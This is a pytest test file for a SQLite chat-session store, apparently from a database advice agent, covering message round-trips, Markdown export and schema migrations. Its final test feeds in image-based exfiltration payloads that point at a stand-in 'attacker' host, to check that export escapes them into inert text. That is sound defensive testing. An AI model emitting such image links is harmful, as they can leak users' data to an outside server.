"""Chat session storage: SQLite at settings.sessions_db."""
from __future__ import annotations

import json
import sqlite3

import pytest

from agent.events import Event
from app.sessions import DEFAULT_TITLE, SessionNotFound, SessionStore, title_from_question


@pytest.fixture()
def store(tmp_path):
    return SessionStore(tmp_path / "sub" / "sessions.sqlite")


ROUTE_EV = {"kind": "route", "data": {"label": "product", "confidence": 0.91, "source": "classifier"}}
PASSAGES_EV = {
    "kind": "passages",
    "data": {"passages": [{"text": "Autovacuum runs…", "source": "routine-vacuuming.html", "title": "Routine Vacuuming",
                           "anchor": "AUTOVACUUM", "link": "routine-vacuuming.html#AUTOVACUUM", "score": 0.8}]},
}
TOOL_EV = {"kind": "tool_call", "data": {"step": 1, "tool": "table_health", "input": "orders",
                                         "output": "| table | dead |\n|---|---|\n| orders | 41 % |", "ok": True,
                                         "duration_ms": 12.5, "snapshot": None}}


def test_create_list_get(store):
    a = store.create()
    b = store.create("Vacuum questions")
    listed = store.list()
    assert [s["id"] for s in listed] == [b, a]  # most recent first
    assert store.get(a)["title"] == DEFAULT_TITLE
    assert store.get(b)["title"] == "Vacuum questions"
    assert listed[0]["n_messages"] == 0


def test_messages_roundtrip_with_events(store):
    sid = store.create()
    store.add_message(sid, "user", "How does autovacuum work?")
    mid = store.add_message(sid, "assistant", "It runs VACUUM…", route="product", events=[ROUTE_EV, PASSAGES_EV])
    msgs = store.messages(sid)
    assert [m["role"] for m in msgs] == ["user", "assistant"]
    assert msgs[1]["id"] == mid
    assert msgs[1]["route"] == "product"
    assert msgs[1]["events"] == [ROUTE_EV, PASSAGES_EV]
    assert store.history(sid) == [
        {"role": "user", "content": "How does autovacuum work?"},
        {"role": "assistant", "content": "It runs VACUUM…"},
    ]


def test_persists_across_reopen(tmp_path):
    path = tmp_path / "sessions.sqlite"
    s1 = SessionStore(path)
    sid = s1.create("kept")
    s1.add_message(sid, "assistant", "answer", events=[TOOL_EV])
    s2 = SessionStore(path)  # a restart
    assert s2.get(sid)["title"] == "kept"
    assert s2.messages(sid)[0]["events"][0]["data"]["tool"] == "table_health"


def test_adding_a_message_moves_session_to_top(store):
    a = store.create("a")
    b = store.create("b")
    store.add_message(a, "user", "hello")
    assert store.list()[0]["id"] == a
    assert store.list()[1]["id"] == b


def test_rename(store):
    sid = store.create()
    store.rename(sid, "  Index   advice  ")
    assert store.get(sid)["title"] == "Index advice"
    with pytest.raises(ValueError):
        store.rename(sid, "   ")
    with pytest.raises(SessionNotFound):
        store.rename(sid + 100, "x")


def test_delete_removes_messages(store):
    sid = store.create()
    store.add_message(sid, "user", "q")
    other = store.create()
    store.add_message(other, "user", "keep me")
    store.delete(sid)
    assert not store.exists(sid)
    assert [s["id"] for s in store.list()] == [other]
    with sqlite3.connect(store.path) as con:
        assert con.execute("SELECT count(*) FROM messages WHERE session_id = ?", (sid,)).fetchone()[0] == 0
    with pytest.raises(SessionNotFound):
        store.get(sid)
    with pytest.raises(SessionNotFound):
        store.delete(sid)
    with pytest.raises(SessionNotFound):
        store.add_message(sid, "user", "orphan")


def test_route_override(store):
    sid = store.create()
    assert store.route_override(sid) is None
    store.set_route_override(sid, "instance")
    assert store.route_override(sid) == "instance"
    store.set_route_override(sid, "auto")
    assert store.route_override(sid) is None


def test_bad_role_rejected(store):
    sid = store.create()
    with pytest.raises(ValueError):
        store.add_message(sid, "system", "x")


def test_export_markdown(store):
    sid = store.create("Dead tuples")
    store.add_message(sid, "user", "Which tables have dead tuples?")
    store.add_message(sid, "assistant", "orders has 41 % dead tuples.", route="instance", events=[
        {"kind": "route", "data": {"label": "instance", "confidence": 0.97, "source": "classifier"}},
        TOOL_EV,
        {"kind": "suggestion", "data": {"sql": "VACUUM (ANALYZE) orders", "reason": "41 % dead tuples", "tool": "table_health"}},
        PASSAGES_EV,
    ])
    md = store.export_markdown(sid)
    assert md.startswith("# Dead tuples\n")
    assert "## Question\n\nWhich tables have dead tuples?" in md
    assert "_Route: instance, confidence 0.97 (classifier)_" in md
    assert "orders has 41 % dead tuples." in md
    assert "### Tool `table_health` (step 1, 12 ms)" in md  # duration rounded
    assert "| orders | 41 % |" in md
    assert "```sql\nVACUUM (ANALYZE) orders\n```" in md
    assert "Routine Vacuuming (routine-vacuuming.html#AUTOVACUUM)" in md
    assert md.index("Which tables") < md.index("orders has 41")


def test_title_from_question():
    assert title_from_question("  short\nquestion ") == "short question"
    long = "why " * 40
    t = title_from_question(long)
    assert len(t) <= 60 and t.endswith("…")


# --------------------------------------------------------------------------- schema migrations
# The schema of sessions.sqlite files written before the migrations list existed (kept here verbatim: old files
# in users' data dirs look like this and must open without losing a message).
OLD_SCHEMA = """
CREATE TABLE IF NOT EXISTS sessions (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    title TEXT NOT NULL,
    route_override TEXT,
    created_at REAL NOT NULL,
    updated_at REAL NOT NULL
);
CREATE TABLE IF NOT EXISTS messages (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    session_id INTEGER NOT NULL REFERENCES sessions(id) ON DELETE CASCADE,
    role TEXT NOT NULL,
    content TEXT NOT NULL,
    route TEXT,
    events TEXT NOT NULL DEFAULT '[]',
    created_at REAL NOT NULL
);
CREATE INDEX IF NOT EXISTS messages_by_session ON messages(session_id, id);
"""


def _applied(path) -> list[str]:
    with sqlite3.connect(path) as con:
        return [r[0] for r in con.execute("SELECT name FROM _migrations ORDER BY applied_at, name")]


def test_a_new_file_gets_every_migration_once(tmp_path):
    from app import sessions

    path = tmp_path / "sessions.sqlite"
    first = SessionStore(path)
    assert first.migrated == [fn.__name__ for fn in sessions.MIGRATIONS]
    assert first.migrated[0] == "m001_initial"
    assert SessionStore(path).migrated == []  # a second open applies nothing
    assert _applied(path) == first.migrated
    assert len(set(first.migrated)) == len(first.migrated)  # names are the keys: unique


def test_an_old_schema_file_opens_and_keeps_its_chats(tmp_path):
    path = tmp_path / "sessions.sqlite"
    with sqlite3.connect(path) as con:
        con.executescript(OLD_SCHEMA)
        con.execute("INSERT INTO sessions(title, route_override, created_at, updated_at) VALUES ('Old chat', 'product', 1, 2)")
        con.execute("INSERT INTO messages(session_id, role, content, route, events, created_at) "
                    "VALUES (1, 'assistant', 'from before', 'product', ?, 2)", (json.dumps([ROUTE_EV, TOOL_EV]),))
    con.close()
    store = SessionStore(path)
    assert store.migrated[0] == "m001_initial" and _applied(path)[0] == "m001_initial"
    assert store.get(1)["title"] == "Old chat" and store.route_override(1) == "product"
    assert store.messages(1)[0]["events"] == [ROUTE_EV, TOOL_EV]
    assert "_Route: product, confidence 0.91 (classifier)_" in store.export_markdown(1)
    store.add_message(1, "user", "and now?")  # still writable
    assert [m["content"] for m in store.messages(1)] == ["from before", "and now?"]


def test_a_later_migration_runs_once_and_a_failing_one_leaves_no_trace(tmp_path, monkeypatch):
    from app import sessions

    path = tmp_path / "sessions.sqlite"
    sid = SessionStore(path).create("kept")

    def m900_add_pinned(con):
        con.execute("ALTER TABLE sessions ADD COLUMN pinned INTEGER NOT NULL DEFAULT 0")

    def m901_broken(con):
        con.execute("ALTER TABLE sessions ADD COLUMN half_done TEXT")
        raise RuntimeError("boom")

    monkeypatch.setattr(sessions, "MIGRATIONS", [*sessions.MIGRATIONS, m900_add_pinned, m901_broken])
    with pytest.raises(RuntimeError, match="boom"):
        SessionStore(path)
    assert "m900_add_pinned" in _applied(path) and "m901_broken" not in _applied(path)
    with sqlite3.connect(path) as con:
        cols = [r[1] for r in con.execute("PRAGMA table_info(sessions)")]
    con.close()
    assert "pinned" in cols and "half_done" not in cols  # the failed migration rolled back whole

    monkeypatch.setattr(sessions, "MIGRATIONS", [*sessions.MIGRATIONS[:-1]])
    again = SessionStore(path)
    assert again.migrated == []  # m900 is not applied twice
    assert again.get(sid)["pinned"] == 0 and again.get(sid)["title"] == "kept"


def test_typed_events_are_stored_as_their_dicts(store):
    from agent.events import Route, ToolCall, load_events

    sid = store.create()
    route, call = Event.from_dict(ROUTE_EV), Event.from_dict(TOOL_EV)
    store.add_message(sid, "assistant", "x", events=[route, TOOL_EV])
    stored = store.messages(sid)[0]["events"]
    assert stored[0] == route.to_dict() and stored[1] == TOOL_EV
    assert load_events(stored) == [route, call]
    assert isinstance(route, Route) and isinstance(call, ToolCall)


def test_exported_transcript_loads_no_image_from_stored_data():
    """A stored answer or tool output quoting a row's image Markdown exports as inert text."""
    from app.sessions import to_markdown

    session = {"title": "t", "created_at": 0}
    messages = [{"role": "assistant", "content": "see ![x](http://attacker/leak.png?c=1)",
                 "events": [{"kind": "tool_call", "data": {"step": 1, "tool": "run_sql", "input": "SELECT 1",
                                                          "output": "<img src=http://attacker/i.png>", "ok": True}}]}]
    text = to_markdown(session, messages)
    assert "![x](" not in text and "\\<img" in text and "\n<img" not in text  # escaped: literal text
    assert "attacker/leak.png" in text  # the data is still there, as text
